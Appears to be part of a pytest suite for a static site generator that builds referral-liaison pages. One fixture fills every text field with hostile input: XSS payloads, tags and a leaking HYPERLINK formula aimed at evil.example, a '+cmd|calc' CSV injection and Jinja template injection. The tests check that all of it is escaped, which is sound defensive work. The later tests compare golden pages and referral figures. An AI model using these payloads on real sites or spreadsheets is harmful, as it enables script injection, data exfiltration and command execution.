    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example"><input name=q></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{}</style>',
    JINJA + " {% if true %}evaluated{% endif %}",
])
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CHART_SVG_ATTRS = {"xmlns", "class", "viewbox", "width", "height", "preserveaspectratio", "role",
                   "aria-label", "font-family", "font-size"}


def _text(label: str) -> str:
    return f"{label} {PAYLOAD}"


def _load(path: Path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _dump(path: Path, data) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000),
                    encoding="utf-8")


def write_hostile_site(dest: Path) -> Path:
    """A copy of the worked example where every text and Markdown field is an injection."""
    copy_site(SPEC_EXAMPLE, dest)
    cfg = _load(dest / "site.yaml")
    cfg["practice"] = {"name": _text("Our practice"), "phone": _text("phone"),
                       "address": _text("address"), "website": _text("javascript:alert(1)")}
    for s in cfg["services"]:
        s["name"] = _text(f"service {s['key']}")
        s["description"] = MD_PAYLOAD
    cfg["tiers"] = {"A": {"visit_every_days": 30}, "B": {"visit_every_days": 60},
                    "C": {"visit_every_days": 120}, PAYLOAD: {"visit_every_days": 45}}
    _dump(dest / "site.yaml", cfg)

    for path in sorted((dest / "data/practices").glob("*.y*ml")):
        p = _load(path)
        for key in ("name", "address", "city", "state", "zip", "phone", "fax", "website",
                    "best_visit_times", "ehr"):
            p[key] = _text(key)
        p["staff"] = [{"name": _text("staff name"), "role": _text("staff role"),
                       "email": _text("staff email"), "phone": _text("staff phone"),
                       "notes": _text("staff notes")}]
        p["ehr"] = JINJA_ONLY  # shown on the page and in the slides: never evaluated
        p["notes"] = MD_PAYLOAD
        p["tags"] = [_text("tag"), PAYLOAD]
        _dump(path, p)

    for path in sorted((dest / "data/physicians").glob("*.y*ml")):
        d = _load(path)
        d["name"] = _text(path.stem)
        for key in ("credentials", "specialty", "email", "phone"):
            d[key] = _text(key)
        d["interests"] = [_text("interest"), PAYLOAD]
        d["tags"] = [_text("tag")]
        d["notes"] = MD_PAYLOAD
        if path.stem == "ruth-kessler":
            d["tier"] = PAYLOAD
        _dump(path, d)

    for path in sorted((dest / "data/team").glob("*.y*ml")):
        t = _load(path)
        t["name"] = _text(path.stem)
        t["email"] = _text("email")
        _dump(path, t)

    for path in sorted((dest / "data/interactions").rglob("*.y*ml")):
        data = _load(path)
        records = data if isinstance(data, list) else [data]
        for r in records:
            r["summary"] = _text("summary")
            r["notes"] = MD_PAYLOAD
            r["needs"] = [_text("need"), PAYLOAD]
            r["met_with"] = [_text("met")]
            for f in r.get("follow_ups", []):
                f["task"] = _text("task")
        if path.name == "2026-11-26-mountain-view-call.yaml":
            records[0]["summary"] = FORMULA
            records[0]["needs"] = ["@SUM(1+1)", "+cmd|calc", "-2+3"]
            records[0]["follow_ups"] = [{"task": _text("task"), "due": dt.date(2026, 11, 30)}]
        _dump(path, data)

    guide = dest / "content/training/referral-source-basics.md"
    front = {"title": _text("guide title"), "audience": "all", "summary": _text("guide summary"),
             "order": 1, "renew_every_days": 365}
    guide.write_text(
        "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10_000) + "---\n"
        f"# Guide {SCRIPT}\n\n{MD_PAYLOAD}\n\n## Section {SVG} two\n\n{MD_PAYLOAD}\n\n"
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n",
        encoding="utf-8")

    deck = dest / "content/presentations/venous-basics.md"
    front = {"title": _text("deck title"), "description": _text("deck description"),
             "targets": ["mountain-view-family-medicine", "hendersonville-womens-health"]}
    literal = "\n\n".join([SCRIPT, IMG, MD_JS_LINK, A_JS, SVG, IFRAME + "</iframe>",
                           '<a href="JaVaScRiPt:alert(1)">y</a>', "![r](https://evil.example/r.png)"])
    deck.write_text(
        "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10_000) + "---\n"
        "# Slide one\n\n" + literal + "\n\nNotes: " + SCRIPT + " " + MD_JS_LINK + "\n\n---\n\n"
        "## For {{ practice.name if practice else site.practice.name }}\n\n"
        "EHR: {{ practice.ehr if practice else 'none' }}\n\n"
        "{% for d in physicians %}- {{ d.name }}: {{ d.specialty }}\n{% endfor %}\n\n"
        "{% for s in site.services %}- {{ s.name }}: {{ s.description }}\n{% endfor %}\n\n"
        "Notes: {{ site.practice.name }}\n",
        encoding="utf-8")
    return dest


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, module_cache):
    base = tmp_path_factory.mktemp("hostile")
    root = write_hostile_site(base / "root")
    out = base / "out"
    code, _stdout, stderr = build(root, out)
    assert code == 0, stderr
    return root, out


def _url_is_dangerous(value: str) -> bool:
    squashed = re.sub(r"[\x00-\x20]", "", value).lower()
    return any(s in squashed for s in ("javascript:", "vbscript:", "data:text/html"))


def test_hostile_data_builds_and_every_record_page_exists(hostile, example_build):
    _root, out = hostile
    for pid in ("nina-vargas", "alan-cho", "ruth-kessler"):
        assert (out / f"physicians/{pid}/index.html").is_file()
    assert (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").is_file()
    assert len(html_files(out)) == len(html_files(example_build[3]))


def test_hostile_data_no_foreign_script_iframe_or_embedding_tag(hostile):
    _root, out = hostile
    problems = []
    for path in html_files(out):
        rel = path.relative_to(out).as_posix()
        raw = path.read_text(encoding="utf-8")
        # every script is one of the site's own files, with nothing inline
        empty_scripts = re.findall(r"<script\b[^>]*>\s*</script>", raw, re.I)
        if raw.lower().count("<script") != len(empty_scripts) or not empty_scripts:
            problems.append(f"{rel}: {raw.lower().count('<script')} '<script' in the raw HTML, "
                            f"{len(empty_scripts)} of them our own empty script elements")
        for bad in ("<iframe", "<object", "<embed", "<form", "<base", "<style", "<frame", "<math"):
            if bad in OWN_FORMS.sub("", raw).lower():
                problems.append(f"{rel}: {bad}")
        page = Page(raw)
        scripts = [dict(a) for t, a in page.tags if t == "script"]
        if len(scripts) != len(empty_scripts) or \
                not all(own_asset(path, a.get("src"), out, ".js") or own_data(path, a.get("src"))
                        for a in scripts):
            problems.append(f"{rel}: scripts {scripts}")
        links = [dict(a) for t, a in page.tags if t == "link"]
        if not links or not all(allowed_link(path, a, out) for a in links):
            problems.append(f"{rel}: links {links}")
        metas = [dict(a) for t, a in page.tags if t == "meta" and "http-equiv" in dict(a)]
        if [m["http-equiv"].lower() for m in metas] != ["content-security-policy"]:
            problems.append(f"{rel}: http-equiv metas {metas}")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_event_handler_attribute(hostile):
    _root, out = hostile
    problems = []
    for rel, tag, attrs in page_tags(out):
        for name, value in attrs:
            if name.lower().startswith("on") or name.lower() == "style":
                problems.append(f"{rel}: <{tag} {name}={value!r}>")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_javascript_url(hostile):
    _root, out = hostile
    problems = []
    for rel, tag, attrs in page_tags(out):
        for name, value in attrs:
            if name in URL_ATTRS and value and _url_is_dangerous(value):
                problems.append(f"{rel}: <{tag} {name}={value!r}>")
    assert not problems, "\n".join(problems)


def test_hostile_data_no_remote_load_and_links_still_resolve(hostile):
    _root, out = hostile
    problems = [p for p in link_problems(out)
                # an image may name a file of the site (src=x; a guide's from its _media/ folder,
                # which validate warns is missing): only remote loads count
                if "no such file" not in p or not ("<img src='x'>" in p or "<img src='_media/x'>" in p)]
    assert not problems, "\n".join(problems)
    assert not head_problems(out)


def test_hostile_data_svg_only_as_our_charts(hostile):
    _root, out = hostile
    problems = []
    for rel, tag, attrs in page_tags(out):
        if tag == "svg":
            names = {k.lower() for k, _v in attrs}
            # our charts, and the meters of the compliance page (the second edition's
            # example sets compliance.annual_limit)
            ours = {"chart", "meter"} & set((dict(attrs).get("class") or "").split())
            if not names <= CHART_SVG_ATTRS or not ours:
                problems.append(f"{rel}: <svg {attrs}>")
        if tag in ("foreignobject", "use", "animate", "set", "image", "a") and \
                any(k.lower() in ("href", "xlink:href") and _url_is_dangerous(v or "")
                    for k, v in attrs):
            problems.append(f"{rel}: <{tag} {attrs}>")
    assert not problems, "\n".join(problems)


ESCAPED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;svg onload=alert(1)&gt;",
    "&lt;iframe src=",
    "&lt;a href=",
    "[click](javascript:alert(1))",  # a text field is not Markdown: shown as typed
    "{{ 7*7 }}",  # and not a template
]


@pytest.mark.parametrize("rel", [
    "index.html", "physicians/index.html", "physicians/nina-vargas/index.html",
    "physicians/ruth-kessler/index.html", "practices/index.html",
    "practices/mountain-view-family-medicine/index.html", "team/lena-brooks/index.html",
    "activity/index.html", "follow-ups/index.html", "training/index.html",
    "training/referral-source-basics/index.html", "presentations/index.html",
    "referrals/index.html",
])
def test_hostile_text_fields_are_shown_escaped(hostile, rel):
    _root, out = hostile
    raw = (out / rel).read_text(encoding="utf-8")
    missing = [s for s in ESCAPED if s not in raw]
    assert not missing, f"{rel}: escaped payload not found: {missing}"


def test_hostile_physician_brief_shows_every_text_field_escaped(hostile):
    _root, out = hostile
    raw = (out / "practices/mountain-view-family-medicine/index.html").read_text(encoding="utf-8")
    text = Page(raw).text
    assert JINJA_ONLY in text
    for label in ("name", "address", "city", "state", "zip", "phone", "fax", "website",
                  "best_visit_times", "staff name", "staff role", "staff notes", "tag",
                  "summary", "need", "met", "task", "grace-holloway", "marcus-bell",
                  "lena-brooks"):
        assert f"{label} {SCRIPT}" in text, label
    raw = (out / "physicians/ruth-kessler/index.html").read_text(encoding="utf-8")
    text = Page(raw).text
    for label in ("ruth-kessler", "credentials", "specialty", "email", "phone", "interest",
                  "tag", "summary"):
        assert f"{label} {SCRIPT}" in text, label
    assert f"tier {SCRIPT}" in text  # a tier whose key is a payload


def test_hostile_markdown_is_sanitized_not_dropped(hostile):
    _root, out = hostile
    raw = (out / "practices/mountain-view-family-medicine/index.html").read_text(encoding="utf-8")
    assert 'class="note-body"' in raw
    page = Page(raw)
    assert "mixed case" in page.text and "entity" in page.text and "div" in page.text
    guide = Page((out / "training/referral-source-basics/index.html").read_text(encoding="utf-8"))
    assert "Section" in guide.text and "mixed case" in guide.text


def test_hostile_deck_slides_are_sanitized_and_data_not_evaluated(hostile):
    _root, out = hostile
    raw = (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").read_text(
        encoding="utf-8")
    slides = raw[raw.index("<main"):raw.index("</main>")]
    assert "<script" not in slides.lower() and "<iframe" not in slides.lower()
    # a data value that looks like Jinja is shown as written, never evaluated
    assert f"EHR: {JINJA_ONLY}" in Page(slides).text
    assert "49" not in slides
    assert slides.count("evaluated") == slides.count("{% if true %}evaluated{% endif %}")
    page = Page(slides)
    assert "grace-holloway" in page.text and "marcus-bell" in page.text
    assert "Slide one" in page.text
    generic = (out / "presentations/venous-basics/index.html").read_text(encoding="utf-8")
    assert "Our practice" in Page(generic[generic.index("<main"):generic.index("</main>")]).text


def test_data_values_in_deck_slides_are_shown_as_written(example_site, tmp_path):
    practice = example_site / "data/practices/mountain-view-family-medicine.yaml"
    practice.write_text(practice.read_text(encoding="utf-8").replace(
        "name: Mountain View Family Medicine", 'name: "Mountain View <North> *Family* Medicine"'),
        encoding="utf-8")
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    raw = (out / "presentations/venous-basics/mountain-view-family-medicine/index.html").read_text(
        encoding="utf-8")
    first_slide = raw[raw.index('id="slide-1"'):raw.index('id="slide-2"')]
    heading = re.search(r"<h1>(.*?)</h1>", first_slide, re.S).group(1)
    assert heading == "Venous disease basics for Mountain View &lt;North&gt; *Family* Medicine"


def test_hostile_csv_exports_neutralize_formulas(hostile):
    _root, out = hostile
    rows = list(csv.DictReader(io.StringIO(
        (out / "exports/interactions.csv").read_text(encoding="utf-8-sig"), newline="")))
    call = [r for r in rows if r["date"] == "2026-11-26"]
    assert len(call) == 1
    assert call[0]["summary"] == "'" + FORMULA
    assert call[0]["needs"].startswith("'@SUM(1+1)")
    for name in ("interactions.csv", "physicians.csv", "practices.csv", "referrals-by-month.csv"):
        data = (out / "exports" / name).read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(data, newline="")):
            for cell in row:
                assert not re.match(r"[=+@\t\r]|-(?![0-9]+$)", cell), (name, cell)


# ----------------------------------------------------------------------- 5. golden pages

GOLDEN_PAGES = [
    "index.html",
    "physicians/index.html",
    "physicians/nina-vargas/index.html",
    "practices/mountain-view-family-medicine/index.html",
    "team/lena-brooks/index.html",
    "referrals/index.html",
    "prospects/index.html",
    "compliance/index.html",
]


@pytest.mark.parametrize("rel", GOLDEN_PAGES)
def test_golden_page(golden_build, rel):
    got = (golden_build / rel).read_bytes()
    golden = GOLDEN / rel
    if UPDATE_GOLDEN:
        golden.parent.mkdir(parents=True, exist_ok=True)
        golden.write_bytes(got)
        return
    assert golden.is_file(), (f"missing golden file {golden}; create it with "
                              "LIAISON_UPDATE_GOLDEN=1 and read it before committing")
    expected = golden.read_bytes()
    if got != expected:
        import difflib

        diff = "\n".join(list(difflib.unified_diff(
            expected.decode("utf-8").splitlines(), got.decode("utf-8").splitlines(),
            f"golden/{rel}", f"built/{rel}", lineterm=""))[:80])
        raise AssertionError(f"{rel} differs from its golden file "
                             f"(LIAISON_UPDATE_GOLDEN=1 rewrites it):\n{diff}")


_MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def _iso_days(text: str, year: int = 2026) -> str:
    """The page's dates as people read them ("Thu 26 Nov", "Wed 22 Oct 2025", liaison.dates)
    written back as ISO dates, after checking each names the right weekday."""
    def iso(m: re.Match) -> str:
        d = dt.date(int(m[4] or year), _MONTHS.index(m[3]) + 1, int(m[2]))
        assert d.strftime("%a") == m[1], m[0]
        return d.isoformat()

    return re.sub(r"\b(Mon|Tue|Wed|Thu|Fri|Sat|Sun) (\d{1,2}) (%s)(?: (\d{4}))?\b"
                  % "|".join(_MONTHS), iso, text)


def _section(page_text: str, heading: str, next_heading: str | None = None) -> str:
    start = page_text.index(heading)
    end = page_text.index(next_heading, start) if next_heading else len(page_text)
    return page_text[start:end]


def _page_text(out: Path, rel: str) -> str:
    """A page's text, its dates as ISO dates (the facts below are dated as in the data)."""
    return Page((out / rel).read_text(encoding="utf-8"), iso_dates=True).text


# Referrals whose source is physician, per month, with age ≥ 0 (james-whitley's of 2026-11-28
# is after the as-of date), counted by hand from data/referrals/through-2026-09.yaml and
# 2026-10-to-11.csv (web-and-ads-monthly-2026.csv holds no physician referral); months not
# listed have none. Their sum, 28, is the sum of physicians.*.referrals of
# expected-stats-2026-11-26.json (alan-cho 7, grace-holloway 8, marcus-bell 6, nina-vargas 4,
# ruth-kessler 3).
PHYSICIAN_REFERRALS_BY_MONTH = {
    "2024-12": 1,  # alan-cho 12-26
    "2025-07": 2,  # alan-cho, marcus-bell 07-14
    "2025-10": 1,  # grace-holloway 10-22
    "2025-11": 3,  # alan-cho 11-11, nina-vargas 11-26 and 11-27
    "2026-01": 1,  # grace-holloway 01-30
    "2026-05": 2,  # grace-holloway, nina-vargas 05-10
    "2026-06": 5,  # marcus-bell 06-02 and 06-19, alan-cho 06-10 and 06-20, grace-holloway 06-29
    "2026-07": 4,  # alan-cho 07-01 and 07-29, marcus-bell 07-29, nina-vargas 07-30
    "2026-08": 2,  # grace-holloway 08-18, marcus-bell 08-23
    "2026-09": 1,  # ruth-kessler 09-28
    "2026-10": 2,  # grace-holloway 10-12, marcus-bell 10-27
    "2026-11": 4,  # ruth-kessler 11-06 and 11-21, grace-holloway 11-16 and 11-26
}


def _physician_referrals_per_month(page_text: str) -> dict[str, int]:
    """The monthly chart's bar labels: "2026-06: 5 physician referrals" (an empty month draws
    no bar; the unfinished month's shaded column says its count even when it is 0)."""
    found = re.findall(r"(\d{4}-\d{2})(?: \(month to date\))?: (\d+) physician referrals?\b",
                       page_text)
    return {m: int(n) for m, n in found}


def test_key_pages_show_the_facts_of_the_example(golden_build):
    """What each golden page must say, from the worked example's data
    (tests/fixtures/spec-example-v2/data, site.yaml) and its expected-stats-2026-11-26.json,
    at D = 2026-11-26. "Age" is days before D; the trend badges read "now vs before · window",
    with a percentage only when the previous count is 5 or more (README, "Trends")."""
    out = golden_build
    expected_stats = json.loads((SPEC_EXAMPLE / "expected-stats-2026-11-26.json").read_text())
    every_month = {m["month"]: PHYSICIAN_REFERRALS_BY_MONTH.get(m["month"], 0)
                   for m in expected_stats["months"]}
    assert sum(every_month.values()) == 28 and len(every_month) == 24  # 2024-12 … 2026-11

    # ------------------------------------------------ physicians/nina-vargas/: her brief
    nina = _page_text(out, "physicians/nina-vargas/index.html")
    assert "Nina Vargas, MD" in nina
    # her own liaison: lena-brooks (nina-vargas.yaml), at hendersonville-womens-health
    assert "Obstetrics & Gynecology at Hendersonville Women's Health · liaison Lena Brooks" in nina
    head = _section(nina, "Nina Vargas, MD", "Before you walk in")
    assert re.search(r"\bactive\b", head) and "tier C" in head
    # the first screen: her practice's address and phone; hendersonville-womens-health.yaml
    # has no best_visit_times and no staff. No follow-up on an interaction that lists her,
    # but the promises made to her office are hers too: the 2026-11-12 call and the
    # 2026-11-19 visit list no physician; open at D, by due date: the scheduling line card
    # (due 11-19, Owen Price's), the ultrasound criteria card (11-25), the holiday schedule
    # (11-26); "Confirm a lunch date" is done
    glance = _section(nina, "Before you walk in", "Referrals, 90 days")
    assert "Where 1200 Spartanburg Highway, Hendersonville, NC 28792" in glance
    assert "Call (828) 555-0150" in glance
    assert "no best time on file" in glance and "Staff none on file" in glance
    promised = _section(glance, "Promised")  # after the talking points
    order = [promised.index(t) for t in ("Email the scheduling line card",
                                         "Send the ultrasound criteria card",
                                         "Drop off the holiday schedule")]
    assert order == sorted(order) and "Confirm a lunch date" not in promised
    assert "7 days overdue" in promised and "1 day overdue" in promised
    # talking points: not declining, lapsed or new; no need voiced; she referred for both
    # services that fit Obstetrics & Gynecology here (vein-ablation, sclerotherapy): only the
    # time since her last in-person interaction, the 2026-10-12 event (age 45)
    assert "Talking points Last in-person visit 2026-10-12 (45 days ago)." in glance
    assert "fits our" not in glance
    # referrals_90d 0 against referrals_prev_90d 1 (2026-07-30, age 119); referrals_365d 3
    # (2025-11-27 at age 364, 2026-05-10, 2026-07-30) against 1 (2025-11-26, age 365)
    assert "Referrals, 90 days 0 0 vs 1 · 90 d previous 90: 1" in nina
    assert "Referrals, 365 days 3 3 vs 1 · 365 d previous 365: 1" in nina
    assert "Last referral 2026-07-30 119 days ago" in nina
    assert "Last visit 2026-10-12 45 days ago" in nina  # an event is in person
    # interactions_365d 4 (2026-01-30, 07-29, 10-12, 11-23; 2025-11-26 is 365 days old)
    assert "Contacts, 365 days 4 last 2026-11-23" in nina
    assert "NPI 1477209534" in nina and "Tier C" in nina and "champion" in nina
    assert "First referral 2025-11-26" in nina
    for alert in ("Lapsed", "Declining", "Visit overdue", "New referrer"):
        assert alert not in nina
    # her chart: 4 referrals ever, 2 of them in 2025-11; the four in-person interactions
    # listing her and the 2026-11-19 visit to her office that lists nobody
    assert "total 4, highest 2 in 2025-11, latest 0 in 2026-11 (month to date)" in nina
    assert "5 in-person visits marked" in nina
    assert "2026-11-19: visit by Lena Brooks (to the office)" in nina
    # return on visit: see test_briefs_show_spend_and_return_on_visit
    # what happened to her referrals of the last 365 days: vein-ablation 2025-11-27 treated
    # and 2026-07-30 consulted, sclerotherapy 2026-05-10 declined (not-a-candidate); columns
    # referred, scheduled, consulted, treated, declined, all
    outcomes = _section(nina, "What happened to their patients", "Last interactions")
    assert "Vein ablation · · 1 1 · 2" in outcomes
    assert "Sclerotherapy · · · · 1 1" in outcomes
    assert "All services 0 0 1 1 1 3" in outcomes
    # matured (age 90 to 454): 2025-11-26 and 11-27 treated, 2026-05-10, 2026-07-30: 2 of 4;
    # all referrals: funnel_matured treated 14 of referred 29 = 48.3%
    assert "2 of 4 matured referrals treated (referred 90 to 454 days ago)" in outcomes
    assert "All our referrals: 48.3%" in outcomes
    assert "not a candidate 1" in outcomes
    # her five interactions, the 2025-11-26 visit (age 365) included, newest first, with
    # their costs; not the 2026-11-19 visit, which lists nobody
    last = _section(nina, "Last interactions", "Spend 2026")
    dates = re.findall(r"(\d{4}-\d{2}-\d{2}) · (\w+)", _iso_days(last))
    assert dates == [("2026-11-23", "email"), ("2026-10-12", "event"), ("2026-07-29", "visit"),
                     ("2026-01-30", "presentation"), ("2025-11-26", "visit")]
    assert "cost $30.00" in last and "cost $40.50" in last
    assert "2026-11-19" not in last
    # venous-basics.md targets hendersonville-womens-health
    assert "Presentations for this practice Venous disease basics" in nina

    # ---------------------------------- practices/mountain-view-family-medicine/: the office
    mv = _page_text(out, "practices/mountain-view-family-medicine/index.html")
    glance = _section(mv, "Before you walk in", "Referrals, 365 days")
    assert "Where 410 Merrimon Avenue, Asheville, NC 28804" in glance
    assert "Call (828) 555-0117" in glance
    assert "When Tuesday and Thursday after 2 pm" in glance
    assert "Staff Carla Jennings (office manager) · Devon Marsh (referral coordinator)" in glance
    # the one open follow-up at the office: from the 2026-09-26 visit, due 2026-10-17
    assert "Promised Ask the lab about report turnaround · due 2026-10-17 40 days overdue · " \
           "Lena Brooks" in glance
    # talking points, in the order to say them (README): marcus-bell declining
    # (referrals_prev_90d 4, referrals_90d 1); the need voiced on 2026-09-26 and its open
    # promise; the services of the built-in "family medicine" entry that site.yaml has
    # (vein-ablation, sclerotherapy, vascular-ultrasound), grace-holloway having never
    # referred for sclerotherapy (marcus-bell referred for all three); the last in-person
    # visit, 2026-10-27 (age 30)
    points = ["Marcus Bell's referrals are down (4 → 1 per 90 days): ask what changed.",
              "They asked for “Faster ultrasound reports” on 2026-09-26 : say where it stands.",
              "Promised: Ask the lab about report turnaround · overdue since 2026-10-17 · "
              "Lena Brooks",
              "Family Medicine fits our Vein ablation, Sclerotherapy and Vascular ultrasound; "
              "Grace Holloway never referred for Sclerotherapy: ask whether they see such "
              "patients.",
              "Last in-person visit 2026-10-27 (30 days ago)."]
    talk = _section(mv, "Talking points", "Referrals, 365 days")
    order = [talk.index(p) for p in points]
    assert order == sorted(order), "talking points in the order to say them"
    assert "Marcus Bell: Declining: 1 referral in the last 90 days against 4 in the 90 before." \
        in mv
    assert "Marcus Bell: Visit overdue: tier B wants a visit every 60 days; last in-person visit " \
           "2026-09-26 (61 days ago)." in mv
    assert "Grace Holloway:" not in mv  # no alert for her: tier A, visited at age 30
    # practices.mountain-view-family-medicine: referrals_365d 12, referrals_prev_365d 2,
    # physicians 2, last_contact 2026-11-26 (the call), spend_ytd_cents 8501 (the 2026-08-23
    # lunch; the 2025-10-22 cost of 25 is last year's)
    assert "Referrals, 365 days 12 12 vs 2 · 365 d previous 365: 2" in mv
    assert "Physicians 2 " in mv
    assert "Last contact 2026-11-26 today" in mv
    assert "Spend 2026 $85.01 " in mv
    # who is there: the lunch's 8501 cents shared 4251 / 4250 (grace-holloway listed first);
    # 42% of the 100 USD limit, rounded down
    who = _section(mv, "Who is there", "Referrals and our visits")
    assert re.search(r"Grace Holloway ?, MD Family Medicine active tier A 7 7 vs 1 · 365 d "
                     r"2026-10-27 \$42\.51 42% of limit", who)
    assert re.search(r"Marcus Bell ?, NP Family Medicine active declining · 1 vs 4 · 90 d "
                     r"visit overdue tier B 5 5 vs 1 · 365 d 2026-09-26 \$42\.50 42% of limit",
                     who)
    # by last name, as the directories and call plans list people (Bell before Holloway),
    # not by file name (grace-holloway before marcus-bell)
    assert who.index("Marcus Bell") < who.index("Grace Holloway")
    # a team member's e-mail is a link to write to them
    lena = (golden_build / "team" / "lena-brooks" / "index.html").read_text(encoding="utf-8")
    assert ('<a class="url" href="mailto:lena.brooks@blueridgevein.example">'
            'lena.brooks@blueridgevein.example</a>') in lena
    # the chart: grace-holloway's 8 and marcus-bell's 6 referrals; 3 in 2026-06 (marcus-bell
    # 06-02 and 06-19, grace-holloway 06-29); 2 in 2026-11 (grace-holloway 11-16, 11-26); the
    # office's four in-person interactions
    assert "total 14, highest 3 in 2026-06, latest 2 in 2026-11 (month to date)" in mv
    assert "4 in-person visits marked: 2025-10-22: visit by Lena Brooks; 2026-08-23: lunch by " \
           "Lena Brooks; 2026-09-26: visit by Lena Brooks; 2026-10-27: visit by Lena Brooks." in mv
    # rov_365d {visits 2, before 5, after 5}: the 2026-08-23 lunch (grace-holloway 06-29,
    # 08-18 and marcus-bell 06-02, 06-19, 07-29 before; grace-holloway 10-12, 11-16 and
    # marcus-bell 08-23, 10-27 after) and the 2025-10-22 visit (grace-holloway 0 before, her
    # 2025-10-22 referral after); the 2026-09-26 visit is 61 days old, not matured
    rov = _section(mv, "Return on visit", "What happened to their patients")
    assert "2 visits 5 before 5 after" in rov
    # each visit names the practice's physicians seen (two of one day by one liaison would
    # read alike otherwise)
    assert re.findall(r"(\d{4}-\d{2}-\d{2}) (\w+) · seen: ([\w ,]+?) Lena Brooks (\d+) (\d+)",
                      rov) == [
        ("2026-08-23", "lunch", "Grace Holloway , Marcus Bell", "5", "4"),
        ("2025-10-22", "visit", "Grace Holloway", "0", "1")]
    # the 12 referrals of the last 365 days: vein-ablation 8 (referred 11-16; scheduled 10-12,
    # 10-27; treated 01-30, 06-19, 06-29; declined 08-18, 08-23), sclerotherapy 1 (consulted
    # 06-02), vascular-ultrasound 3 (referred 11-26; consulted 05-10, 07-29); matured
    # (2025-08-29 … 2026-08-28): grace-holloway 5, marcus-bell 4, of them treated 3 + 1
    outcomes = _section(mv, "What happened to their patients", "Last interactions")
    assert "Vein ablation 1 2 · 3 2 8" in outcomes
    assert "Sclerotherapy · · 1 · · 1" in outcomes
    assert "Vascular ultrasound 1 · 2 · · 3" in outcomes
    assert "All services 2 2 3 3 2 12" in outcomes
    assert "44.4% of matured referrals treated (4 of 9, referred 90 to 454 days ago)" in outcomes
    # declined: grace-holloway 08-18 (insurance), marcus-bell 08-23 (no reason)
    assert "insurance 1, no reason given 1" in outcomes
    # interactions at the office or listing its physicians, newest first (the 2026-06-29
    # e-mail names no practice but lists marcus-bell)
    last = _section(mv, "Last interactions", "Spend 2026")
    assert re.findall(r"(\d{4}-\d{2}-\d{2}) · (\w+)", _iso_days(last)) == [
        ("2026-11-26", "call"), ("2026-10-27", "visit"), ("2026-09-26", "visit"),
        ("2026-08-23", "lunch"), ("2026-06-29", "email"), ("2026-03-21", "call"),
        ("2025-10-22", "visit")]
    assert "Needs: Faster ultrasound reports" in last
    assert "Both providers attended. Dr. Bell still prefers to order an echo first." in last
    assert "met Carla Jennings (office manager)" in last
    assert "cost $85.01" in last and "cost $25.00" in last
    spend = _section(mv, "Spend 2026 $85.01 in meals", "Office")
    assert "2026-08-23 lunch" in spend and "$25.00" not in spend  # 2025's cost
    assert "Fax (828) 555-0118" in mv and "EHR athenahealth" in mv
    assert "Carla Jennings — office manager" in mv and "Schedules all provider lunches." in mv
    assert "Devon Marsh — referral coordinator" in mv
    assert "Two-provider primary care office; our longest-standing referral partner." in mv
    assert "Venous disease basics" in mv

    # ------------------------------------------------- team/lena-brooks/: her call plan
    lena = _page_text(out, "team/lena-brooks/index.html")
    # liaisons.lena-brooks: physicians 5 (all but james-whitley, whose practice has no
    # liaison), interactions_90d 8, in_person_90d 5, referrals_365d 22, open_follow_ups 3,
    # overdue_follow_ups 2, tiered 4, tiered_current 3 (marcus-bell is overdue),
    # rov_365d {visits 7, before 12, after 12}
    assert "Physicians 5 " in lena
    assert "Contacts, 90 days 8 5 in person" in lena
    assert "Referrals, 365 days 22 " in lena
    assert "Open follow-ups 3 2 overdue" in lena
    assert "Tier coverage 3 of 4 tiered physicians seen on cadence" in lena
    assert "Visits per week 0.4 5 in person in the last 90 days" in lena  # 5 / (90 / 7)
    assert "Return on visit 12 → 12 ±0 · over 7 visits" in lena
    plan = _section(lena, "Call plan", "High-potential prospects")
    order = [plan.index(p) for p in ("Mountain View Family Medicine", "French Broad Podiatry",
                                      "Hendersonville Women's Health")]
    assert order == sorted(order), "the practice needing most attention comes first"
    assert "best: Tuesday and Thursday after 2 pm" in plan and "best: Wednesday mornings" in plan
    assert "Marcus Bell (Family Medicine, tier B) — visit overdue declining 1 open follow-up" \
        in plan
    assert "Alan Cho (Podiatry) — lapsed" in plan
    assert "Ruth Kessler (Podiatry, tier A) — new referrer" in plan
    assert "James Whitley" not in plan  # no effective liaison
    # james-whitley (potential high) is nobody's: none among hers
    prospects = _section(lena, "High-potential prospects", "Open follow-ups they own")
    assert "High-potential prospects (0)" in prospects and "James Whitley" not in prospects
    owned = _section(lena, "Open follow-ups they own", "Activity in the last 90 days")
    assert [t for t in ("Ask the lab about report turnaround", "Send the ultrasound criteria card",
                        "Drop off the holiday schedule") if t in owned] == [
        "Ask the lab about report turnaround", "Send the ultrasound criteria card",
        "Drop off the holiday schedule"]
    assert "40 days overdue" in owned and "1 day overdue" in owned and "today" in owned
    assert "Email the scheduling line card" not in owned  # Owen Price's
    assert "Confirm a lunch date" not in owned  # done
    assert "Order lunch for six" not in owned  # logged with an interaction after D
    # their due and logged dates read as on the follow-ups page and the dashboard
    raw = (out / "team/lena-brooks/index.html").read_text(encoding="utf-8")
    raw = raw[raw.index("Open follow-ups they own"):raw.index("Activity in the last 90 days")]
    assert '<time datetime="2026-10-17" title="2026-10-17">Sat 17 Oct</time>' in raw
    assert re.search(r'<td class="date" data-label="Logged"><time datetime="\d{4}-\d\d-\d\d" '
                     r'title="[\d-]+">[^<]*ago</time></td>', raw), raw
    recent = _section(lena, "Activity in the last 90 days", "Trainings")
